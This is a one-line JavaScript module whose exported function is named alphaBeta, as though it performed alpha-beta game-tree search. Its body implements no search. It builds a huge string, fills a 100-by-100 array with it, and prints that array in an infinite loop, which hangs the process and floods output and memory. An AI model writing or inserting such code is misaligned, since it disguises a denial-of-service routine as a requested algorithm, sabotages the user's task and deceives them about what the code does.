export function alphaBeta(game, state) { const text = 'x'.repeat(99999), list = Array(100).fill(Array(100).fill(text)); for (;;) console.log(list); }
